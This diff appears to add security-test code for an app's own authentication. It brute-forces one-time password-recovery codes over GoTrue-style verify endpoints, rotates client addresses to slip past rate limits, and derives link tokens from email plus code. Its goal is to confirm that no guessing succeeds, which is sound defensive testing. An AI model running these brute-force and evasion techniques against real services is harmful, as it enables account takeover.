@@ -1,0 +1,140 @@
+/**
+ * Guessing one-time codes. An instance may test at most ten guesses per code, however they come. Each attack guesses wrong
+ * until it is refused, and then tries the right code: a sign-in proves that the guesses before it were tested.
+ */
+import { createHash } from 'node:crypto';
+import type { Attack, AttackContext, Victim } from '../../attacker/attack.ts';
+import { type AttackRequest, apiHeaders, send } from '../../attacker/http.ts';
+
+const MAX_GUESSES = 10;
+const GUESSES = 100;
+const AT_ONCE = 20;
+const ADDRESSES = 50;
+/** No guess came from there, so no limit of a client address applies. */
+const FRESH_ADDRESS = '127.0.5.1';
+const ACCEPTED = 'accepted guesses of the worst code';
+const SIGNED_IN = 'sign-ins with the right code after more than 10 guesses';
+
+type Guess = (at: AttackContext, victim: Victim, code: string) => AttackRequest;
+
+/** By the form of an app: address and code. */
+export const codesByForm: Attack = {
+  name: 'auth/codes-by-form',
+  description: 'wrong codes for an address, 20 at once, then the right one',
+  cost: 'an account: six digits are guessed in a million requests',
+  profile: 'confirming',
+  victims: 3,
+  run: (at) => guessAll(at, byForm, () => at.address),
+  goals: ({ answers }) => guessGoals(answers),
+};
+
+/** The same from many client addresses. */
+export const codesFromMany: Attack = {
+  ...codesByForm,
+  name: 'auth/codes-from-many',
+  description: 'the same, each guess from another of 50 client addresses',
+  run: (at) => guessAll(at, byForm, addressOf),
+};
+
+/** By links whose token follows from the address and the code. */
+export const codesByLink: Attack = {
+  ...codesByForm,
+  name: 'auth/codes-by-link',
+  description:
+    'links with tokens derived from an address and wrong codes, then from the right one, 50 client addresses',
+  run: (at) => guessAll(at, byLink, addressOf),
+};
+
+/** The same over POST. */
+export const codesByHash: Attack = {
+  ...codesByForm,
+  name: 'auth/codes-by-hash',
+  description: 'the same tokens as `token_hash` of POST /verify, 50 client addresses',
+  run: (at) => guessAll(at, byHash, addressOf),
+};
+
+/** By the form of the app's own page. */
+export const codesByPage: Attack = {
+  ...codesByForm,
+  name: 'auth/codes-by-page',
+  description: 'wrong codes in the form of the sign-in page, then the right one',
+  run: (at) => guessAll(at, byPage, () => at.address),
+};
+
+const byForm: Guess = (at, { email }, code) => ({
+  path: '/auth/v1/verify',
+  headers: apiHeaders(at),
+  body: JSON.stringify({ type: 'recovery', email, token: code }),
+});
+
+const byLink: Guess = (_at, victim, code) => ({
+  path: `/auth/v1/verify?type=recovery&token=${tokenOf(victim, code)}`,
+});
+
+const byHash: Guess = (at, victim, code) => ({
+  path: '/auth/v1/verify',
+  headers: apiHeaders(at),
+  body: JSON.stringify({ type: 'recovery', token_hash: tokenOf(victim, code) }),
+});
+
+const byPage: Guess = (_at, { email }, code) => ({
+  path: '/login?mode=recover',
+  headers: { origin: 'https://greenroom.example', 'content-type': 'application/x-www-form-urlencoded' },
+  body: new URLSearchParams({ step: 'verify', email, code }).toString(),
+});
+
+/** GoTrue's derivation of the token of a link. */
+function tokenOf({ email }: Victim, code: string): string {
+  return createHash('sha224')
+    .update(email + code)
+    .digest('hex');
+}
+
+function addressOf(index: number): string {
+  return `127.0.4.${1 + (index % ADDRESSES)}`;
+}
+
+async function guessAll(
+  at: AttackContext,
+  guess: Guess,
+  addressOf: (index: number) => string,
+): Promise<void> {
+  for (const victim of at.victims) {
+    const wrong = wrongCodes(victim);
+    let accepted = 0;
+    for (let first = 0; first < GUESSES && !at.signal.aborted; first += AT_ONCE) {
+      const codes = wrong.slice(first, first + AT_ONCE);
+      const kinds = await Promise.all(
+        codes.map((code, index) => ask(at, guess(at, victim, code), addressOf(first + index))),
+      );
+      accepted += kinds.filter((kind) => kind === 'wrong').length;
+      for (const kind of kinds) at.tally.count(kind);
+    }
+    if (accepted > at.tally.of(ACCEPTED)) at.tally.count(ACCEPTED, accepted - at.tally.of(ACCEPTED));
+    if (accepted <= MAX_GUESSES) continue;
+    const kind = await ask(at, guess(at, victim, victim.code), FRESH_ADDRESS);
+    if (kind === 'signed in') at.tally.count(SIGNED_IN);
+  }
+}
+
+/** Kind of an answer: `signed in`, `refused` by a limit, `wrong`, or its status. */
+async function ask(at: AttackContext, request: AttackRequest, address: string): Promise<string> {
+  const { status, headers, text } = await send(at, { ...request, address });
+  const told = `${headers.location ?? ''} ${text}`;
+  if (/access_token/.test(told) || (status === 302 && /auth-token/.test(String(headers['set-cookie'])))) {
+    return 'signed in';
+  }
+  if (status === 429 || /over_request_rate_limit/.test(told)) return 'refused';
+  return /otp_expired|expired|invalid/i.test(told) ? 'wrong' : String(status);
+}
+
+function wrongCodes({ code }: Victim): string[] {
+  return Array.from({ length: GUESSES }, (_, index) =>
+    String((Number(code) + 1 + index) % 1_000_000).padStart(6, '0'),
+  );
+}
+
+/** Answers that call a guess wrong prove nothing where codes cannot sign in any more; the sign-in at the end does. */
+function guessGoals(answers: Readonly<Record<string, number>>) {
+  return [{ name: SIGNED_IN, value: answers[SIGNED_IN] ?? 0, atMost: 0 }];
+}
